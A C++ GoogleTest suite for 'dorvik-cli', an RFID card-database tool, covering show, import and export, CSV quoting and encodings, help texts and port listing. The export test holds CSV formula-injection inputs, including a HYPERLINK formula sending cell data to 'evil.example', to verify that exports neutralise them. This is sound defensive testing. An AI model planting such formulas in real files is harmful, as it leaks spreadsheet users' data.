// dorvik-cli on card database files and CSV: show, import, export, and the help texts.

#include "core/CliProgram.h"

#include <gtest/gtest.h>

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QDir>
#include <QFile>
#include <QTemporaryDir>

namespace {

class CliFiles : public ::testing::Test
{
protected:
    QTemporaryDir Dir;

    QString Path(const char* Name) const { return Dir.filePath(QString::fromLatin1(Name)); }

    void WriteText(const char* Name, const QByteArray& Bytes) const
    {
        QFile File(Path(Name));
        ASSERT_TRUE(File.open(QIODevice::WriteOnly));
        File.write(Bytes);
    }

    // Two cards, the second the master; one name in UTF-8, one in Windows-1252 bytes.
    void WriteSample(const char* Name) const
    {
        WriteCardFile(Path(Name), {{{0x01, 0x00, 0x12, 0xD6, 0x87}, "Jos\xC3\xA9"},
                                   {{0x00, 0x00, 0x00, 0x00, 0x05}, "Zo\xEB, \"Z\""}},
                      1);
    }
};

// ---- show

TEST_F(CliFiles, ShowListsTheCardsAsATable)
{
    WriteSample("s.tdb");
    const CliRun R = RunCli({"show", Path("s.tdb")});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    const QStringList Lines = R.Out.split('\n', Qt::SkipEmptyParts);
    ASSERT_EQ(Lines.size(), 3) << R.Out.toStdString();
    EXPECT_TRUE(Lines[0].startsWith("ID  Card number")) << Lines[0].toStdString();
    EXPECT_EQ(Lines[1].simplified(), QString::fromUtf8("1 0001234567 018,54919 José"));
    EXPECT_EQ(Lines[2].simplified(), QString::fromUtf8("2 0000000005 000,5 Zoë, \"Z\" Yes"));
}

TEST_F(CliFiles, ShowWritesCsvAndJson)
{
    WriteSample("s.tdb");
    CliRun R = RunCli({"show", Path("s.tdb"), "--format", "csv"});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    EXPECT_EQ(R.Out, QString::fromUtf8("id,card number,name,master\r\n"
                                       "1,\"0001234567 018,54919\",José,\r\n"
                                       "2,\"0000000005 000,5\",\"Zoë, \"\"Z\"\"\",Yes\r\n"));

    R = RunCli({"show", Path("s.tdb"), "--format", "json"});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    QJsonParseError Error;
    const QJsonDocument Json = QJsonDocument::fromJson(R.Out.toUtf8(), &Error);
    ASSERT_EQ(Error.error, QJsonParseError::NoError) << R.Out.toStdString();
    const QJsonArray Cards = Json.array();
    ASSERT_EQ(Cards.size(), 2);
    EXPECT_EQ(Cards[0].toObject()["id"].toInt(), 1);
    EXPECT_EQ(Cards[0].toObject()["cardNumber"].toString(), "0001234567 018,54919");
    EXPECT_EQ(Cards[0].toObject()["value"].toInteger(), 1234567);
    EXPECT_EQ(Cards[0].toObject()["name"].toString(), QString::fromUtf8("José"));
    EXPECT_FALSE(Cards[0].toObject()["master"].toBool());
    EXPECT_EQ(Cards[1].toObject()["name"].toString(), QString::fromUtf8("Zoë, \"Z\""));
    EXPECT_TRUE(Cards[1].toObject()["master"].toBool());

    R = RunCli({"show", Path("s.tdb"), "--format", "xml"});
    EXPECT_EQ(R.Status, 2);
}

TEST_F(CliFiles, ABadCardFileIsRefusedWithTheFileLayersMessageAndNothingWritten)
{
    WriteText("bad.tdb", QByteArray("TDB"));
    CliRun R = RunCli({"show", Path("bad.tdb")});
    EXPECT_EQ(R.Status, 1);
    EXPECT_TRUE(R.Err.contains("Stream read error")) << R.Err.toStdString();
    EXPECT_EQ(R.Err.count('\n'), 1);

    WriteText("lower.tdb", QByteArray("tdbf").append(20, '\0'));
    R = RunCli({"export", Path("lower.tdb"), "-o", Path("out.csv")});
    EXPECT_EQ(R.Status, 1);
    EXPECT_TRUE(R.Err.contains("The file you selected is not a valid database file.")) << R.Err.toStdString();
    EXPECT_FALSE(QFile::exists(Path("out.csv")));

    R = RunCli({"show", Path("missing.tdb")});
    EXPECT_EQ(R.Status, 1);
    EXPECT_TRUE(R.Err.contains("Cannot open file")) << R.Err.toStdString();
}

// ---- export and import

// A name a spreadsheet would run as a formula is written as text (a leading apostrophe) and
// comes back as it was.
TEST_F(CliFiles, ExportAndImportKeepNamesWithCommasQuotesLineBreaksOtherScriptsAndFormulas)
{
    const QString Names[] = {QString::fromUtf8("Smith, \"Jo\""), QString::fromUtf8("two\r\nlines"),
                             QString::fromUtf8("Zoë Åberg"), QString::fromUtf8("日本 🚪"), QString(),
                             "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+cmd", "-2+3", "@SUM(A1)",
                             "\tx", "'=x", "'Tis"};
    constexpr int Count = int(std::size(Names));
    TRfidTags Tags;
    for (int I = 0; I < Count; ++I) {
        TRfidTag& Tag = Tags.Add();
        Tag.Bytes = {0x00, uint8_t(0x80 + I), 0x00, 0x01, uint8_t(I)};
        Tag.Name = Names[I].toUtf8();
    }
    SaveCardDatabaseFile(Path("in.tdb"), Tags, {3, 0, 5});

    CliRun R = RunCli({"export", Path("in.tdb"), "-o", Path("cards.csv")});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    const QString Csv = QString::fromUtf8(FileBytes(Path("cards.csv")));
    EXPECT_TRUE(Csv.startsWith("card,name,master\r\n")) << Csv.toStdString();
    EXPECT_TRUE(Csv.contains(QString::fromUtf8("2147483904,\"Smith, \"\"Jo\"\"\",\r\n"))) << Csv.toStdString();
    EXPECT_TRUE(Csv.contains(QString::fromUtf8("\"two\r\nlines\""))) << Csv.toStdString();
    EXPECT_TRUE(Csv.contains(QString::fromUtf8(",日本 🚪,yes\r\n"))) << Csv.toStdString();
    for (const char* Guarded : {",\"'=HYPERLINK(", ",'+cmd,", ",'-2+3,", ",'@SUM(A1),", ",'\tx,", ",''=x,", ",'Tis,"})
        EXPECT_TRUE(Csv.contains(QString::fromLatin1(Guarded))) << Guarded;

    R = RunCli({"import", Path("cards.csv"), "-o", Path("back.tdb")});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    const TLoadedCardDatabase Back = LoadCardDatabaseFile(Path("back.tdb"));
    ASSERT_EQ(Back.Tags.Count(), Count);
    EXPECT_EQ(Back.Master, 3u);
    for (int I = 0; I < Count; ++I)
        EXPECT_EQ(Back.Tags.Items(I).CardValue(), Tags.Items(I).CardValue()) << I;
    for (int I = 5; I < Count; ++I)
        EXPECT_EQ(Back.Tags.Items(I).Name, Names[I].toUtf8()) << I;
    EXPECT_EQ(Back.Tags.Items(0).Name, Names[0].toUtf8());
    EXPECT_EQ(Back.Tags.Items(1).Name, Names[1].toUtf8());
    // A name that fits Windows-1252 is stored in it; one that does not stays UTF-8.
    EXPECT_EQ(Back.Tags.Items(2).Name, QByteArray("Zo\xEB \xC5""berg"));
    EXPECT_EQ(Back.Tags.Items(3).Name, Names[3].toUtf8());
    EXPECT_EQ(Back.Tags.Items(4).Name, QByteArray());

    // The Windows-1252 name reads back as the same text.
    R = RunCli({"export", Path("back.tdb"), "-o", Path("again.csv")});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    EXPECT_EQ(FileBytes(Path("again.csv")), FileBytes(Path("cards.csv")));
}

TEST_F(CliFiles, ImportTakesWhatSpreadsheetsWrite)
{
    // A byte order mark, LF line ends, a blank line, header in capitals, no master column value.
    WriteText("s.csv", "\xEF\xBB\xBF" "Card,Name,Master\n7,Door\n\n 8 ,\"x\"\"y\",YES\n");
    const CliRun R = RunCli({"import", Path("s.csv"), "-o", Path("s.tdb")});
    ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
    const TLoadedCardDatabase File = LoadCardDatabaseFile(Path("s.tdb"));
    ASSERT_EQ(File.Tags.Count(), 2);
    EXPECT_EQ(File.Tags.Items(0).CardValue(), 7u);
    EXPECT_EQ(File.Tags.Items(0).Bytes[0], 0);
    EXPECT_EQ(File.Tags.Items(1).CardValue(), 8u);
    EXPECT_EQ(File.Tags.Items(1).Name, "x\"y");
    EXPECT_EQ(File.Master, 1u);
}

TEST_F(CliFiles, ImportRefusesABadRowNamingItsLineAndWritesNothing)
{
    const std::pair<QByteArray, const char*> Cases[] = {
        {"card,name\n1,a\n", "line 1"},
        {"card,name,master\n1,a\n-2,b\n", "line 3"},
        {"card,name,master\n1,a\n4294967296,b\n", "line 3"},
        {"card,name,master\n1,\"two\nlines\"\n0x10,c\n", "line 4"},
        {"card,name,master\n1,a,yes\n2,b,yes\n", "line 3"},
        {"card,name,master\n1,a,maybe\n", "line 2"},
        {"card,name,master\n1,a\n1,b\n", "line 3"},
        {"card,name,master\n1,a,,extra\n", "line 2"},
        {"card,name,master\n1,\"open\n", "line 2"},
        {"card,name,master\n1,a\"b\n", "line 2"},
    };
    for (const auto& [Text, Line] : Cases) {
        WriteText("bad.csv", Text);
        const CliRun R = RunCli({"import", Path("bad.csv"), "-o", Path("out.tdb")});
        EXPECT_EQ(R.Status, 1) << Text.toStdString();
        EXPECT_TRUE(R.Err.contains(QString::fromLatin1(Line) + ':')) << Text.toStdString() << " -> " << R.Err.toStdString();
        EXPECT_EQ(R.Err.count('\n'), 1) << R.Err.toStdString();
        EXPECT_FALSE(QFile::exists(Path("out.tdb"))) << Text.toStdString();
    }
}

// ---- the command line itself

TEST_F(CliFiles, EveryCommandHasHelpAndBadArgumentsExitWithStatus2)
{
    for (const char* Command : {"ports", "read", "write", "door", "show", "import", "export"}) {
        const CliRun R = RunCli({Command, "--help"});
        EXPECT_EQ(R.Status, 0) << Command;
        EXPECT_TRUE(R.Out.startsWith(QStringLiteral("Usage: dorvik-cli %1").arg(Command))) << R.Out.toStdString();
    }
    EXPECT_EQ(RunCli({"--help"}).Status, 0);
    EXPECT_EQ(RunCli({}).Status, 2);
    // The reader's limits in the help are filled in, not left as placeholders.
    const std::pair<const char*, const char*> Limits[] = {{"write", "at most 250 cards"}, {"door", "mode, 1 to 255\n"}};
    for (const auto& [Command, Text] : Limits)
        EXPECT_TRUE(RunCli({Command, "--help"}).Out.contains(QString::fromLatin1(Text))) << Command;
    EXPECT_EQ(RunCli({"erase"}).Status, 2);
    EXPECT_EQ(RunCli({"read", "ttyUSB0"}).Status, 2); // no -o
    EXPECT_EQ(RunCli({"show", "a.tdb", "b.tdb"}).Status, 2);
    EXPECT_EQ(RunCli({"read", "ttyUSB0", "-o", Path("x.tdb"), "--timeout", "soon"}).Status, 2);
}

TEST_F(CliFiles, PortsListsTheExtraPortsAfterTheAttachedReaders)
{
    const struct
    {
        const char* Extra;
        const char* Settings;
        const char* Listed;
    } Cases[] = {
        {"/dev/pts/91:/dev/pts/92", "", "/dev/pts/91\n/dev/pts/92\n"},
        {"tcp://door-1:3001:/dev/pts/9:rfc2217://[::1]:3002:ttyUSB7", "",
         "tcp://door-1:3001\tnetwork\n/dev/pts/9\nrfc2217://[::1]:3002\tnetwork\nttyUSB7\n"},
        {"tcp://a:1", "[readers]\nnetwork=rfc2217://b:2, tcp://a:1\n", "tcp://a:1\tnetwork\nrfc2217://b:2\tnetwork\n"},
    };
    for (const auto& C : Cases) {
        QTemporaryDir Config;
        QDir().mkpath(Config.filePath("Dorvik"));
        QFile Settings(Config.filePath("Dorvik/Dorvik.conf"));
        ASSERT_TRUE(Settings.open(QIODevice::WriteOnly));
        Settings.write(C.Settings);
        Settings.close();
        QProcessEnvironment Env = QProcessEnvironment::systemEnvironment();
        Env.insert("DORVIK_EXTRA_PORTS", C.Extra);
        Env.insert("XDG_CONFIG_HOME", Config.path());
        const CliRun R = RunCli({"ports"}, Env);
        ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
        EXPECT_TRUE(R.Out.endsWith(C.Listed)) << C.Extra << ": " << R.Out.toStdString();
    }
}

} // namespace

// A folder the user may not write to, holding a card file the user may write: the save cannot
// make its temporary file there and writes the file in place. Folder permissions do not bind
// root, so as root the tool runs as the unprivileged user "nobody".
TEST_F(CliFiles, SavesInPlaceWhereTheFolderRefusesATemporaryFile)
{
    const QString Locked = Path("locked");
    ASSERT_TRUE(QDir().mkdir(Locked));
    const QString Target = Locked + "/cards.tdb";
    WriteText("locked/cards.tdb", "old");
    WriteText("cards.csv", "card,name,master\r\n7,Seven,yes\r\n");
    const auto All = QFile::ReadOwner | QFile::ReadGroup | QFile::ReadOther | QFile::ExeOwner | QFile::ExeGroup |
                     QFile::ExeOther;
    QFile::setPermissions(Dir.path(), All | QFile::WriteOwner);
    QFile::setPermissions(Path("cards.csv"), All);
    QFile::setPermissions(Target, All | QFile::WriteOwner | QFile::WriteGroup | QFile::WriteOther);
    QFile::setPermissions(Locked, All);

    QStringList Command{"import", Path("cards.csv"), "-o", Target};
    QString Program = CliPath();
    if (geteuid() == 0) {
        Command = QStringList{"--reuid=65534", "--regid=65534", "--clear-groups", Program} + Command;
        Program = QStringLiteral("setpriv");
    }
    QProcess Tool;
    Tool.start(Program, Command);
    ASSERT_TRUE(Tool.waitForFinished(30000));
    QFile::setPermissions(Locked, All | QFile::WriteOwner);
    if (Tool.error() == QProcess::FailedToStart)
        GTEST_SKIP() << "cannot run the tool as another user: " << Tool.errorString().toStdString();
    ASSERT_EQ(Tool.exitCode(), 0) << Tool.readAllStandardError().toStdString();
    const TLoadedCardDatabase Saved = LoadCardDatabaseFile(Target);
    ASSERT_EQ(Saved.Tags.Count(), 1);
    EXPECT_EQ(Saved.Tags.Items(0).Name, "Seven");
    EXPECT_EQ(QDir(Locked).entryList(QDir::Files), QStringList{"cards.tdb"});
}
